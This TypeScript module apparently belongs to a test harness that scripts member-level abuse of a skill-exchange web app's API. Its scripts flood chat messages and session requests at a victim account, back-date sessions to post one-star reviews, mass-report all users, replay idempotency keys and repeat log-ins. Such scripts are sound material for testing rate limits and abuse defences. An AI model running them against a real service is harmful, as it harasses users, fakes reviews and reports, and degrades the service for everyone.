import { randomUUID } from 'node:crypto';
import { type Attack, repeat, type Target } from './attack.ts';
import { type AttackCall, call, write } from './call.ts';

const hourMs = 3_600_000;
const inHours = (hours: number) => new Date(Date.now() + hours * hourMs).toISOString();

/** Calls of a member as fast as responses arrive. */
function script(name: string, places: number, step: (target: Target, number: number) => Promise<unknown>): Attack {
  return {
    name,
    by: 'member',
    run: (target) => repeat(target, places, async (number) => void (await step(target, number))),
  };
}

function one<Value>(values: readonly Value[], number: number): Value {
  const value = values[number % values.length];
  if (value === undefined) throw new Error('There is nothing to take one of.');
  return value;
}

const post = (path: string, body: object, more: Partial<AttackCall> = {}): AttackCall => ({
  method: 'POST',
  path,
  body,
  ...more,
});

/** Attacks on other members by a member's script. */
export const member: Attack[] = [
  script('skills without end', 16, (target) => {
    const name = `Skill ${randomUUID()}`;
    const part = (field: string) => `--b\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${name}\r\n`;
    const body = `${part('name')}${part('desc')}--b--\r\n`;
    return call(target, {
      method: 'POST',
      path: '/api/skills/add',
      headers: { 'content-type': 'multipart/form-data; boundary=b' },
      body,
    });
  }),
  script('messages to one member', 32, (target) => {
    const text = `attack ${randomUUID()}`;
    const body = { senderId: target.account.id, receiverId: target.victim.id, text };
    return write(target, text, post('/api/chat/messages', body, { credentials: 'cookie' }));
  }),
  script('one message sent again and again with its key', 32, (target) => {
    const body = {
      senderId: target.account.id,
      receiverId: target.victim.id,
      text: `again ${target.account.id}`,
    };
    const headers = { 'idempotency-key': 'the same' };
    return call(target, post('/api/chat/messages', body, { credentials: 'cookie', headers }));
  }),
  script('conversations with everybody', 16, (target, number) => {
    const body = { userId: target.account.id, otherUserId: one(target.others, number) };
    return call(target, post('/api/chat/conversation', body, { credentials: 'cookie' }));
  }),
  script('sessions with one member', 16, (target, number) => {
    const name = randomUUID();
    const link = `https://meet.example.org/${name}`;
    return write(target, name, post('/api/sessions/new', { date: inHours(number), userTwo: target.victim.id, link }));
  }),
  script('sessions in the past, and reviews of one member', 8, async (target) => {
    const { text } = await call(
      target,
      post('/api/sessions/new', {
        date: '2020-01-01T10:00:00.000Z',
        userTwo: target.victim.id,
        link: 'https://meet.example.org/past',
      }),
    );
    const session = (JSON.parse(text) as { session?: { _id: string } }).session;
    const review = { rating: 1, comment: 'No.', reviewedTo: target.victim.id };
    return await call(target, post('/api/reviews/new', { ...review, sessionId: session?._id ?? randomUUID() }));
  }),
  script('events without end, of every year', 16, (target, number) => {
    const title = `Event ${randomUUID()}`;
    const isFar = number % 2 === 0;
    return write(
      target,
      title,
      post('/api/events/create', {
        title,
        description: 'x'.repeat(4000),
        skills: Array.from({ length: 10 }, () => `Skill ${randomUUID()}`),
        date: inHours(1),
        start_time: isFar ? '1970-01-01T00:00:00.000Z' : inHours(1),
        end_time: isFar ? '9999-12-31T00:00:00.000Z' : inHours(2),
        max_participants: 10_000,
      }),
    );
  }),
  { name: 'registering everywhere', by: 'member', run: registerEverywhere },
  script('reports of everybody', 16, (target, number) =>
    call(target, post('/api/report-user/new', { reason: 'x'.repeat(250), reportedUser: one(target.others, number) })),
  ),
  script('edits of the profile', 16, (target, number) => {
    const skills = JSON.stringify(
      Array.from({ length: 20 }, (_, index) => `Skill ${number}-${index}-${target.account.id}`),
    );
    const part = (name: string, value: string) =>
      `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
    return call(target, {
      method: 'PUT',
      path: `/api/user/edit/${target.account.id}`,
      headers: { 'content-type': 'multipart/form-data; boundary=b' },
      body: `${part('about', 'x'.repeat(1000))}${part('skillsOffered', skills)}--b--\r\n`,
    });
  }),
  script('log-ins with the right password', 32, async (target) => {
    const { email, password } = target.account;
    return await call(target, post('/auth/login', { email, password }, { credentials: 'none' }));
  }),
  script('log-outs and checks', 32, (target, number) =>
    call(target, {
      method: 'POST',
      path: number % 2 === 0 ? '/auth/check' : '/auth/logout',
      credentials: number % 2 === 0 ? 'bearer' : 'none',
    }),
  ),
  { name: 'a long history, read whole', by: 'member', run: readHistory },
  script("reads of a member's own lists", 32, (target, number) =>
    call(target, {
      path: one(
        [
          '/api/user/userRecommend',
          '/api/events/get-learn-events',
          '/api/sessions/my-sessions',
          '/api/reviews/given',
          `/api/reviews/user/${target.victim.id}`,
          '/api/events/getAll',
          '/api/events/user-events-status?status=Upcoming',
          '/api/events/get-participating-events?status=Completed',
        ],
        number,
      ),
    }),
  ),
  script('profiles of everybody', 32, (target, number) =>
    call(target, { path: `/api/user/get/${one(target.others, number)}` }),
  ),
];

async function registerEverywhere(target: Target): Promise<void> {
  const { text } = await call(target, { path: '/api/events/getAll?limit=30' });
  const events = JSON.parse(text) as { _id: string }[];
  await repeat(target, 16, async (number) => {
    await call(target, { method: 'POST', path: `/api/events/${one(events, number)._id}/register` });
  });
}

/** Fills a conversation for a while, then requests all of it at once. */
async function readHistory(target: Target): Promise<void> {
  const { account, victim } = target;
  const pair = { userId: account.id, otherUserId: victim.id };
  const opened = await call(target, post('/api/chat/conversation', pair, { credentials: 'cookie' }));
  const { _id } = JSON.parse(opened.text) as { _id: string };
  await repeat(target, 16, async (number) => {
    const body = { senderId: account.id, receiverId: victim.id, text: 'x'.repeat(4000) };
    if (number < 1000) await call(target, post('/api/chat/messages', body, { credentials: 'cookie' }));
    else await call(target, { path: `/api/chat/messages/${_id}`, credentials: 'cookie' });
  });
}
